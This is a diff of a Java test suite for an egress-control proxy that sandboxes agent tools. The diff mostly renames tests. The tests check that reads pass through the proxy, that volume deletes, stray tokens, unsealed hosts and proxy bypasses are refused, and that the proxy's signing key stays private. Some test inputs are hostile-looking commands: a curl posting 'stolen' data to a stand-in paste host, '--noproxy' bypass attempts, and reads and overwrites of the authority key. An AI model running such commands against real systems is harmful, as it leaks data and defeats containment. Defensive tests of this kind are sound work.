@@ -27,7 +27,7 @@ import org.junit.jupiter.params.provider.ValueSource;
 @Tag("process")
 final class ProxiedRunTest {
 
-    private static final String URL = "https://" + Railway.HOST + "/graphql/v2";
+    private static final String URL = "https://" + RailwaySimulatorProcess.HOST + "/graphql/v2";
     private static final String STRAY = "rw_a-stray-token-that-somebody-left-behind";
 
     private Installation installation;
@@ -41,7 +41,7 @@ final class ProxiedRunTest {
         installation = Installation.openAtTheProvidersAddress();
         workspace = installation.workspace("workspace");
         Files.writeString(workspace.resolve("read.json"), body(Agent.read()));
-        Files.writeString(workspace.resolve("delete.json"), body(Agent.delete(Railway.disposable(0))));
+        Files.writeString(workspace.resolve("delete.json"), body(Agent.delete(RailwaySimulatorProcess.disposable(0))));
     }
 
     @AfterAll
@@ -56,7 +56,7 @@ final class ProxiedRunTest {
     }
 
     private String run(String script) throws Exception {
-        Programs.Ended ended = installation.run(workspace, script);
+        Programs.ProgramResult ended = installation.run(workspace, script);
         return ended.out() + "\n" + ended.err();
     }
 
@@ -68,29 +68,29 @@ final class ProxiedRunTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"--http1.1", "--http2"})
-    void whatIsReadIsAnsweredByTheProviderAndWhatDestroysIsHeld(String protocol) throws Exception {
+    void readsAreForwardedAndDestructionsAreHeld(String protocol) throws Exception {
         String version = protocol.equals("--http2") ? "2" : "1.1";
         assertThat(run(curl("read.json", protocol))).contains("\"data\"", "staging", "\n200 " + version);
         assertThat(run(curl("delete.json", protocol))).contains("confirmation_required", "\n403 " + version);
-        assertThat(installation.railway().exists(Railway.disposable(0))).isTrue();
+        assertThat(installation.railway().exists(RailwaySimulatorProcess.disposable(0))).isTrue();
         assertThat(installation.railway().attempted("volumeDelete")).isZero();
     }
 
     @Test
-    void aStrayTokenIsRefusedThereToo() throws Exception {
+    void aStrayTokenIsRefusedAtTheProxy() throws Exception {
         assertThat(run(curl("read.json", "-H 'Authorization: Bearer " + STRAY + "'")))
                 .contains("foreign_credential", "\n403");
         assertThat(installation.said()).contains("foreign").doesNotContain(STRAY);
     }
 
     @Test
-    void theLeaseInTheToolsOwnSlotIsGoodToo() throws Exception {
+    void theLeaseWorksAsTheToolsOwnToken() throws Exception {
         assertThat(run(curl("read.json", "-H \"Authorization: Bearer $INTERLOCK_LEASE\"")))
                 .contains("\n200 2");
     }
 
     @Test
-    void aHostThatNobodySealedIsRefusedInWordsAndOnRecord() throws Exception {
+    void anUnsealedHostIsRefusedWithAReasonOnRecord() throws Exception {
         assertThat(run("curl -sS -m 50 https://paste.example.net/upload -d stolen"))
                 .contains("names no upstream at `https://paste.example.net`");
         assertThat(run("curl -sS -m 50 --cacert /dev/null https://drop.example.net/"))
@@ -103,7 +103,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void thereIsStillNoOtherWayOut() throws Exception {
+    void onlyTheProxyIsReachable() throws Exception {
         assertThat(run("curl -sS -m 20 --noproxy '*' " + URL)).contains("curl: (");
         assertThat(run("curl -sS -m 20 --noproxy '*' -k https://127.0.0.1:"
                         + installation.railway().port() + "/"))
@@ -113,17 +113,17 @@ final class ProxiedRunTest {
     private void posts(String script) throws Exception {
         assertThat(run(script.formatted("read.json"))).as("read").contains("\"data\"", "staging");
         assertThat(run(script.formatted("delete.json"))).as("delete").containsAnyOf("confirmation_required", "403");
-        assertThat(installation.railway().exists(Railway.disposable(0))).isTrue();
+        assertThat(installation.railway().exists(RailwaySimulatorProcess.disposable(0))).isTrue();
     }
 
     @Test
-    void byWget() throws Exception {
+    void wgetWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("wget"), "needs wget");
         posts("wget -q --content-on-error -O - --header 'Content-Type: application/json' --post-file=%s " + URL);
     }
 
     @Test
-    void byPythonsOwnClient() throws Exception {
+    void pythonWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("python3"), "needs python3");
         Files.writeString(workspace.resolve("ask.py"), """
                 import sys, urllib.request, urllib.error
@@ -138,7 +138,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byNode() throws Exception {
+    void nodeWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("node"), "needs node");
         Files.writeString(workspace.resolve("fetch.mjs"), """
                 import { readFileSync } from 'node:fs';
@@ -158,7 +158,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byNpmWhichFetchesAndPublishesNothing() throws Exception {
+    void npmFetchesAndCannotPublish() throws Exception {
         assumeTrue(Programs.has("npm"), "needs npm");
         for (String name : List.of("plain-thing", "@some/scoped-thing")) {
             Path made = Files.createDirectories(workspace.resolve("made").resolve(name));
@@ -186,14 +186,14 @@ final class ProxiedRunTest {
     @Test
     void byGit() throws Exception {
         assumeTrue(Programs.has("git"), "needs git");
-        assertThat(run("GIT_TERMINAL_PROMPT=0 git clone https://" + Railway.HOST + "/x/y.git 2>&1"))
+        assertThat(run("GIT_TERMINAL_PROMPT=0 git clone https://" + RailwaySimulatorProcess.HOST + "/x/y.git 2>&1"))
                 .contains("403");
         assertThat(run("GIT_TERMINAL_PROMPT=0 git clone https://github.example.com/x/y.git 2>&1"))
                 .contains("403");
     }
 
     @Test
-    void byGitWhichFetchesAndPushesNothing() throws Exception {
+    void gitFetchesAndCannotPush() throws Exception {
         assumeTrue(Programs.has("git"), "needs git");
         installation.git().publish("acme/site", "index.html", "<h1>fetched</h1>");
         String url = "https://" + GitHost.HOST + "/acme/site.git";
@@ -211,7 +211,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byJavasClient() throws Exception {
+    void javaWorksThroughTheProxy() throws Exception {
         Path java = Path.of(System.getProperty("java.home"), "bin", "java");
         assumeTrue(java.startsWith("/usr"), "this Java is not visible inside");
         Files.writeString(workspace.resolve("Ask.java"), """
@@ -241,7 +241,7 @@ final class ProxiedRunTest {
         command.add("@" + workspace.resolve("read.json"));
         command.addAll(List.of(more));
         command.add(URL);
-        Programs.Ended ended = Programs.run(command, "");
+        Programs.ProgramResult ended = Programs.run(command, "");
         return ended.out() + ended.err();
     }
 
@@ -250,7 +250,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void atTheSharedDoorTheLeaseIsGivenToTheProxyOrInside() throws Exception {
+    void theSharedListenerAcceptsTheLeaseInTheTunnelOrForTheProxy() throws Exception {
         Programs.await("the authority is published", () -> Files.exists(published()));
         String lease = installation.lease();
         assertThat(outside("lease:" + lease + "@")).contains("\"data\"", "\n200");
@@ -263,7 +263,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void theAuthoritysKeyIsTheGatewaysAloneAndSaysWhatItIsFor() throws Exception {
+    void theAuthoritysKeyIsPrivateToTheGatewayAndNamesItsUse() throws Exception {
         Programs.await("the authority is published", () -> Files.exists(published()));
         Path key = installation.root().resolve("data/authority.key");
         assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key)))
@@ -279,7 +279,7 @@ final class ProxiedRunTest {
                 "-in",
                 published().toString());
         assertThat(Programs.run(show, "").expect(0).out())
-                .contains("DNS:" + Railway.HOST, "DNS:" + FakeRegistry.HOST, "DNS:" + GitHost.HOST, "Excluded:")
+                .contains("DNS:" + RailwaySimulatorProcess.HOST, "DNS:" + FakeRegistry.HOST, "DNS:" + GitHost.HOST, "Excluded:")
                 .containsPattern("(?s)Permitted:(\\s+DNS:\\S+){6}\\s+Excluded:");
         assertThat(run("cat " + key + " " + published() + " 2>&1; ls /run/interlock"))
                 .doesNotContain("-----BEGIN")
@@ -287,7 +287,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void aPlacesAuthorityIsOfNoUseElsewhere() throws Exception {
+    void aPlacesAuthorityIsUselessElsewhere() throws Exception {
         assertThat(run("cat /run/interlock/authority.pem > mine.pem; echo x > /run/interlock/authority.pem"
                         + " || echo kept"))
                 .contains("kept");
